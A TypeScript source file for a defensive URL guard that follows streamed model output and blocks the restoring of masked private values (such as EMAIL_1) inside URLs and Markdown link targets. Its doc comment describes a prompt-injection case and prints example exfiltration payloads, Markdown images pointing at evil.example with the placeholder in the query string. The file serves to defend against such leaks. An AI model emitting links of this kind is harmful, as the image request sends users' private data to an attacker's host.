import { isAsciiSpace } from '../recognizers/characters.ts'
import { type LinkAttribute, createLinkAttribute } from './link-attribute.ts'
import { type LinkDefinition, createLinkDefinition, isLineEnd } from './link-definition.ts'

/**
 * Follows a text unit by unit and tells whether the position is inside a URL or a Markdown link target.
 *
 * There nothing is restored: a prompt injection could make the model write `![x](https://evil.example/?q=EMAIL_1)`,
 * and a restored value would leave with the image request. The same rule decides on the way in which stretch of text
 * is masked whole, so that what was masked can always be put back.
 *
 * A guarded run begins behind `//` (either slash may be a backslash, as browsers read it), behind `www.`, behind `https:` (or
 * another scheme that needs no slashes, WHATWG URL 4.4) at the start of a word, inside `](…)`, and behind `[…]:` at the
 * start of a line. It ends where every renderer of Markdown ends it: a link target (CommonMark 0.31, 6.3) at white space
 * of ASCII and at the bracket that closes it, any other URL at white space, at `<`, at the end of the tag that it stands
 * in, and at a `"` that is followed by punctuation of JSON or prose. A backtick, a `>` or a no-break space does not end
 * it: `![x](https://evil.example/?\`EMAIL_1)` is an image. A placeholder at the very start of a link target, alone or
 * behind `mailto:`, decides the host itself and stays restorable.
 *
 * White space does not end everything: not a target or URL in angle brackets (`](<https://… >)`) or quoted in brackets
 * (`url("https://… ")`), which goes on to the closing one or the end of the line, and not the value of an attribute of
 * HTML that names a link, see {@link LinkAttribute}.
 */
export interface UrlGuard {
  /** True if a placeholder that starts at the current position must not be restored. */
  readonly blocked: boolean
  /** True if a guarded run is open, restorable or not. */
  readonly inside: boolean
  /** True if nothing that was read has a bearing on what follows the next white space. */
  readonly isIdle: boolean
  /** Moves over one UTF-16 unit. */
  advance(unit: number): void
  /** Moves over a value that was put in place of a placeholder. */
  advanceOver(value: string): void
}

const SLASH = 0x2f
const BACKSLASH = 0x5c
const HOST_END = new Set([...'/\\?#:'].map((c) => c.charCodeAt(0)))
/** What may stand behind a `"` that closes a string which held a URL. */
const AFTER_QUOTE = new Set([...',}]):'].map((c) => c.charCodeAt(0)))
const MAX_HOST = 253
const MAILTO = 'mailto:'

/** Words of up to five letters as numbers, so that a word is compared without being kept. */
const LETTER_BITS = 5
const TOO_LONG = 1 << (5 * LETTER_BITS)
const numberOf = (word: string): number =>
  [...word].reduce((number, letter) => (number << LETTER_BITS) | (letter.charCodeAt(0) & 0x1f), 0)
/** Schemes that a browser reads without slashes too. */
const SCHEMES = new Set(['http', 'https', 'ws', 'wss', 'ftp'].map(numberOf))

/** How a text is followed. */
export interface UrlGuardOptions {
  /** Exact names or `*.example.com`, lower case; inside their URLs restoring is on. Default: none. */
  readonly allowedHosts?: readonly string[]
  /** Whether the text begins where a line does. Default: yes. */
  readonly isLineStart?: boolean
}

export function createUrlGuard(options: UrlGuardOptions = {}): UrlGuard {
  return new Guard(options)
}

class Guard implements UrlGuard {
  readonly #allowedHosts: readonly string[]
  /** Inside `//…` or `www.…`. */
  #url = false
  /** Inside `](…)`; depth of further brackets. */
  #target = false
  #depth = 0
  /** The target is that of a definition: brackets mean nothing in it. */
  #isDefinition = false
  /** A `[` in the same word. One inside a URL, or none at all: the `](` that follows is more of the URL. */
  #bracket: 'none' | 'open' | 'in-url' = 'none'
  /** The unit before is a backslash that no other one escapes. */
  #isEscape = false
  /** How much of the link target has been read, as far as it is `mailto:` so far; -1 once it is anything else. */
  #targetStart = 0
  #previous = 0
  #quotePending = false
  /** The letters of a word from its start; -1 if it is longer, or has digits. */
  #word = 0
  /** The letters w in front. */
  #ws = 0
  readonly #attribute: LinkAttribute = createLinkAttribute()
  readonly #definition: LinkDefinition
  /** What ends the run, rather than white space: `>` or a quote; 0 if white space does. */
  #closer = 0
  /** A `<` or a quote behind a bracket, with nothing but white space or the letters of a scheme behind it. */
  #opener = 0
  /** Nothing but a URL since `<`. */
  #isAutolink = false
  #host = ''
  #hostDone = false
  #hostAllowed = false

  constructor({ allowedHosts = [], isLineStart = true }: UrlGuardOptions) {
    this.#allowedHosts = allowedHosts
    this.#definition = createLinkDefinition(isLineStart)
  }

  get inside(): boolean {
    return this.#url || this.#target || this.#attribute.offset >= 0
  }

  get isIdle(): boolean {
    return (
      this.#attribute.isIdle &&
      this.#definition.isIdle &&
      !this.#url &&
      !this.#target &&
      this.#opener === 0
    )
  }

  get blocked(): boolean {
    if (this.#url) return !(this.#hostDone && this.#hostAllowed)
    if (this.#isInAttribute()) return true
    if (!this.#target) return false
    return this.#targetStart !== 0 && this.#targetStart !== MAILTO.length
  }

  advance(unit: number): void {
    if (this.#quotePending) {
      this.#quotePending = false
      if (AFTER_QUOTE.has(unit)) this.#reset()
    }
    const isEscaped = this.#isEscape
    this.#isEscape = unit === BACKSLASH && !isEscaped
    const endsTag = this.#endsTag(unit, isEscaped)
    if (this.#opensDefinition(unit, isEscaped)) this.#openTarget(true)
    else if (endsTag) this.#reset()
    else if (this.#advanceCloser(unit, isEscaped) || this.#isBeforeTarget(unit)) {
      // Goes on over white space.
    } else if (this.#ends(unit)) {
      this.#reset()
    } else if (unit === 0x22 && this.#url && !this.#target) {
      this.#quotePending = true
    } else if (unit === 0x28 && this.#previous === 0x5d && this.#canOpenTarget) {
      this.#openTarget(false)
    } else {
      this.#advanceInside(unit, isEscaped)
    }
    this.#previous = unit
  }

  /** Most units are letters of running text, which nothing has to be asked about. */
  #opensDefinition(unit: number, isEscaped: boolean): boolean {
    if (this.#definition.isText && !isLineEnd(unit)) return false
    this.#definition.advance(unit, isEscaped)
    return this.#definition.opens
  }

  #endsTag(unit: number, isEscaped: boolean): boolean {
    if (unit !== 0x3c && this.#attribute.isIdle) return false
    this.#attribute.advance(unit, isEscaped)
    return this.#attribute.endsTag
  }

  #ends(unit: number): boolean {
    return this.#target ? isAsciiSpace(unit) : endsRun(unit)
  }

  /** White space between `](` or `[…]:` and the target. */
  #isBeforeTarget(unit: number): boolean {
    return this.#target && this.#targetStart === 0 && isAsciiSpace(unit)
  }

  /** Whether a `](` begins a target. */
  get #canOpenTarget(): boolean {
    return !this.#target && (!this.#url || this.#bracket === 'open')
  }

  advanceOver(value: string): void {
    for (let i = 0; i < value.length; i++) this.advance(value.charCodeAt(i))
  }

  /** Behind the start of an attribute that names a link: what stands at the start decides the host itself. */
  #isInAttribute(): boolean {
    return this.#attribute.offset > 0 && !this.#attribute.isMailto
  }

  /** True if the unit belongs to a run that white space does not end. */
  #advanceCloser(unit: number, isEscaped: boolean): boolean {
    if (this.#closer !== 0) {
      if ((unit === this.#closer && !isEscaped) || unit === 0x0a) {
        this.#closer = 0
        // Brackets around anything else than a URL alone are text, and the URL goes on.
        if (unit === 0x3e && (this.#target || this.#isAutolink)) this.#reset()
        return false
      }
      if (isControl(unit)) this.#isAutolink = false
      if (!endsRun(unit)) return false
      if (this.#url) this.#endHost()
      return true
    }
    if (unit === 0x3c) {
      if (this.#target && this.#targetStart === 0 && !isEscaped) {
        this.#closer = 0x3e
        return true
      }
      this.#opener = 0x3e
      this.#isAutolink = !isEscaped
      return false
    }
    if ((unit === 0x22 || unit === 0x27) && this.#previous === 0x28) this.#opener = unit
    else if (this.#opener !== 0 && !isOfScheme(unit)) this.#opener = 0
    if (isControl(unit)) this.#isAutolink = false
    return false
  }

  #advanceInside(unit: number, isEscaped: boolean): void {
    if (this.#target && !this.#advanceTarget(unit, isEscaped)) return
    if (unit === 0x5b) this.#bracket = this.#url ? 'in-url' : 'open'
    if (this.#url) {
      this.#advanceHost(unit)
      return
    }
    if (isSlash(unit) && isSlash(this.#previous)) this.#openUrl('')
    else this.#advanceWord(unit)
  }

  /** False if the bracket closed the target. */
  #advanceTarget(unit: number, isEscaped: boolean): boolean {
    if (this.#closer !== 0 || this.#isDefinition || isEscaped) {
      // Brackets mean nothing between angle brackets, in a definition, and behind a backslash.
    } else if (unit === 0x28) this.#depth++
    else if (unit === 0x29) {
      if (this.#depth === 0) {
        this.#reset()
        return false
      }
      this.#depth--
    }
    const expected = MAILTO.charCodeAt(this.#targetStart)
    this.#targetStart =
      this.#targetStart >= 0 && (unit | 0x20) === (expected | 0x20) ? this.#targetStart + 1 : -1
    return true
  }

  #advanceHost(unit: number): void {
    if (this.#hostDone || this.#allowedHosts.length === 0) return
    // Further slashes mean nothing (WHATWG URL, "special authority ignore slashes").
    if (this.#host === '' && isSlash(unit)) return
    // Everything before an @ is not the host (`https://good.example@evil.example/`).
    if (unit === 0x40) this.#host = ''
    else if (HOST_END.has(unit)) {
      // A colon may end the host or stand inside `user:password@`; only a port's digits keep it a host.
      if (unit === 0x3a) this.#host += ':'
      else this.#endHost()
    } else if (this.#host.length <= MAX_HOST) this.#host += String.fromCharCode(unit)
  }

  #isAllowed(host: string): boolean {
    const name = host.toLowerCase().replace(/:\d{1,5}$/, '')
    return this.#allowedHosts.some((allowed) =>
      allowed.startsWith('*.') ? name.endsWith(allowed.slice(1)) : name === allowed,
    )
  }

  #endHost(): void {
    if (this.#hostDone) return
    this.#hostDone = true
    this.#hostAllowed = this.#isAllowed(this.#host)
  }

  #advanceWord(unit: number): void {
    if (unit !== 0x2e) this.#ws = (unit | 0x20) === 0x77 ? this.#ws + 1 : 0
    if (isLetter(unit)) {
      const word = (this.#word << LETTER_BITS) | (unit & 0x1f)
      this.#word = this.#word < 0 || word >= TOO_LONG ? -1 : word
    } else if (unit === 0x2e && this.#ws >= 3) this.#openUrl('www.')
    else if (unit === 0x3a && SCHEMES.has(this.#word)) this.#openUrl('')
    else this.#word = isDigit(unit) ? -1 : 0
  }

  #openTarget(isDefinition: boolean): void {
    this.#reset()
    this.#target = true
    this.#isDefinition = isDefinition
  }

  #openUrl(host: string): void {
    this.#url = true
    this.#host = host
    this.#hostDone = false
    this.#hostAllowed = false
    if (this.#closer === 0) this.#closer = this.#opener
    this.#opener = 0
  }

  #reset(): void {
    this.#url = false
    this.#target = false
    this.#depth = 0
    this.#targetStart = 0
    this.#isDefinition = false
    this.#bracket = 'none'
    this.#quotePending = false
    this.#word = 0
    this.#ws = 0
    this.#closer = 0
  }
}

const isSlash = (unit: number): boolean => unit === SLASH || unit === BACKSLASH

const isDigit = (unit: number): boolean => unit >= 0x30 && unit <= 0x39

const isLetter = (unit: number): boolean => {
  const lower = unit | 0x20
  return lower >= 0x61 && lower <= 0x7a
}

/** What may stand between the opening quote and the place where a URL is recognized. */
const isOfScheme = (unit: number): boolean =>
  unit <= 0x20 ||
  isLetter(unit) ||
  isDigit(unit) ||
  isSlash(unit) ||
  unit === 0x2b ||
  unit === 0x2d ||
  unit === 0x2e ||
  unit === 0x3a

/** Or a blank: none stands in an autolink (CommonMark 0.31, 6.5). */
const isControl = (unit: number): boolean => unit <= 0x20 || unit === 0x7f

/** White space (as `\s`) and `<`: behind these no URL goes on that nothing encloses. */
export function endsRun(unit: number): boolean {
  return (
    isAsciiSpace(unit) ||
    unit === 0x3c ||
    unit === 0xa0 ||
    unit === 0x1680 ||
    unit === 0x202f ||
    unit === 0x205f ||
    unit === 0x3000 ||
    (unit >= 0x2000 && unit <= 0x200a) ||
    unit === 0x2028 ||
    unit === 0x2029
  )
}
